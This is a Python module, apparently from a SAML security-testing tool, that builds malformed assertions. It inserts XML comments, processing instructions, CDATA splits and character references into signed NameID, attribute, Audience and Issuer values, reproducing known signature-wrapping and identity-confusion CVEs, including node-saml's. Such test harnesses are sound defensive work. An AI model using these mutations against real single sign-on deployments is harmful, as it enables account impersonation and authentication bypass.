"""CMT: comment, processing-instruction, CDATA and character-reference splits."""
from __future__ import annotations

from lxml import etree

from ..builder import SAML, q
from . import Fault, FaultContext, register, register_factory
from ._common import _assertion, _attr_el, _conditions, _nameid, _pick_attr


def _split_point(text: str) -> int:
    i = text.rfind(".")
    return i if i > 0 else max(1, len(text) // 2)


@register_factory("nameid-comment",
                  "An XML comment inside NameID, inserted before signing so the signature stays valid (Duo 2018); "
                  "with before/after the NameID becomes before<!---->after",
                  ("CMT-01", "CVE-2017-11427", "CVE-2017-11428", "CVE-2018-0489"), before=None, after=None)
def _nameid_comment(before: str | None, after: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        nid = _nameid(root)
        text = nid.text or ""
        b, a = (before or "", after or "") if (before or after) else (text[: _split_point(text)], text[_split_point(text):])
        nid.text = b
        c = etree.Comment("")
        c.tail = a
        nid.append(c)
        ctx.notes["nameid_parts"] = (b, a)

    return Fault("", "", tree=tree)


@register_factory("attr-comment", "An XML comment inside every value of one attribute, before signing (signature valid)",
                  ("CMT-02",), name=None)
def _attr_comment(name: str | None) -> Fault:
    def tree(root: etree._Element, ctx: FaultContext) -> None:
        attr = _attr_el(root, name or _pick_attr(ctx.spec, None))
        for av in attr.findall(q(SAML, "AttributeValue")):
            text = av.text or ""
            i = _split_point(text)
            av.text = text[:i]
            c = etree.Comment("")
            c.tail = text[i:]
            av.append(c)

    return Fault("", "", tree=tree)


def _cdata_split(xml: bytes, ctx: FaultContext) -> bytes:
    nid = ctx.spec.user.name_id.encode()
    import html

    esc = html.escape(ctx.spec.user.name_id, quote=False).encode()
    i = _split_point(ctx.spec.user.name_id)
    head = html.escape(ctx.spec.user.name_id[:i], quote=False).encode()
    tail = ctx.spec.user.name_id[i:].encode()
    if b"]]>" in tail:
        raise ValueError("NameID contains ]]>")
    needle = b">" + esc + b"</saml:NameID>"
    if needle not in xml:
        raise ValueError("NameID text not found for the CDATA split")
    del nid
    return xml.replace(needle, b">" + head + b"<![CDATA[" + tail + b"]]></saml:NameID>", 1)


register(Fault("nameid-cdata-split",
               "NameID text split into a text node and a CDATA section (c14n merges them, so the signature stays valid)",
               ("CMT-04",), bytes_=_cdata_split, stage_override="pre-sign"))


def _pi_splice(root: etree._Element, ctx: FaultContext) -> None:
    nid = _nameid(root)
    text = nid.text or ""
    i = text.find("@") if "@" in text else len(text) // 2
    nid.text = None
    pi = etree.ProcessingInstruction("p", text[:i])
    pi.tail = text[i:]
    nid.append(pi)


register(Fault("nameid-pi-splice",
               "Part of the signed NameID moved into a processing instruction after signing (a correct c14n breaks the digest)",
               ("CMT-03",), signed=_pi_splice))


@register_factory("pi-swallow", "After signing, characters start..end of the signed NameID moved into a processing "
                  "instruction (<?p ...?>), in the NameID and in every AttributeValue equal to it (a correct c14n breaks "
                  "the digest; one that renders a PI's data as text, as xml-crypto's, keeps it). The victim shape of "
                  "CVE-2025-54419/54369: the IdP signs adminx@..., node-saml <= 5.0.1 reads admin@...",
                  ("CMT-03", "CVE-2025-54419", "CVE-2025-54369"), start=0, end=1)
def _pi_swallow(start: int, end: int) -> Fault:
    a, b = int(start), int(end)
    if not 0 <= a < b:
        raise ValueError("pi-swallow needs 0 <= start < end")

    def signed(root: etree._Element, ctx: FaultContext) -> None:
        nid = _nameid(root)
        full = nid.text or ""
        if b > len(full):
            raise ValueError(f"pi-swallow: end={b} is past the NameID {full!r}")
        values = [v for v in _assertion(root).iter(q(SAML, "AttributeValue")) if (v.text or "") == full]
        for el in [nid, *values]:
            el.text = full[:a] or None
            pi = etree.ProcessingInstruction("p", full[a:b])
            pi.tail = full[b:] or None
            el.insert(0, pi)

    return Fault("", "", signed=signed)


@register_factory("comment-in-value", "Audience or Issuer text followed by a comment and a suffix (signed: the full text is value+suffix)",
                  ("CMT-06",), where="audience", suffix=".evil.example")
def _comment_in(where: str, suffix: str) -> Fault:
    if where not in ("audience", "issuer"):
        raise ValueError("where must be audience or issuer")

    def tree(root: etree._Element, ctx: FaultContext) -> None:
        els = [_conditions(root).find(f"{q(SAML, 'AudienceRestriction')}/{q(SAML, 'Audience')}")] if where == "audience" \
            else [root.find(q(SAML, "Issuer")), _assertion(root).find(q(SAML, "Issuer"))]
        for el in els:
            c = etree.Comment("")
            c.tail = suffix
            el.append(c)

    return Fault("", "", tree=tree)


def _char_ref(xml: bytes, ctx: FaultContext) -> bytes:
    import html

    name_id = ctx.spec.user.name_id
    esc = html.escape(name_id, quote=False).encode()
    needle = b">" + esc + b"</saml:NameID>"
    if not name_id or needle not in xml:
        raise ValueError("NameID text not found for the character reference")
    first = f"&#x{ord(name_id[0]):x};".encode()
    return xml.replace(needle, b">" + first + html.escape(name_id[1:], quote=False).encode() + b"</saml:NameID>", 1)


register(Fault("nameid-char-ref", "The first NameID character written as a character reference (&#x61;...); the signature stays valid",
               ("CMT-05",), bytes_=_char_ref, stage_override="pre-sign"))
